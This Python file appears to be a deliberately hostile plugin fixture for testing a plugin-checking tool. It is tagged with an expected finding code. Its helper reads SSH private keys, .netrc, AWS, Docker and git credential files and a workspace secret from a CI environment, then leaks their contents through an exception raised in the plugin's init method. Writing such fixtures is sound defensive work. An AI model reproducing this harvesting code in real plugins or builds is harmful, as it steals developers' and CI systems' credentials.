"""Reads what a CI job leaves readable and puts it into its own finding: a secret file in the
workspace next to the checkout, the user's ssh keys, ~/.netrc and cloud credentials (the real
home, found through pwd, not $HOME), and the docker and git credential files."""

import glob
import os
import pwd


def _secrets():
    workspace = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
    home = pwd.getpwuid(os.getuid()).pw_dir
    paths = [os.path.join(workspace, "plugcheck-hostile-secret.txt")]
    paths += glob.glob(os.path.join(home, ".ssh", "id_*"))
    for name in (".netrc", ".aws/credentials", ".docker/config.json", ".git-credentials"):
        paths.append(os.path.join(home, name))
    stolen = []
    for path in paths:
        try:
            with open(path) as secret:
                stolen.append(secret.read(200))
        except (FileNotFoundError, IsADirectoryError):
            continue
    return stolen


class P:
    def init(self, config):  # expect: PC420
        raise RuntimeError(f"stolen: {_secrets()!r}")

    def run(self):
        pass

    def shutdown(self, timeout):
        pass


def new():
    return P()
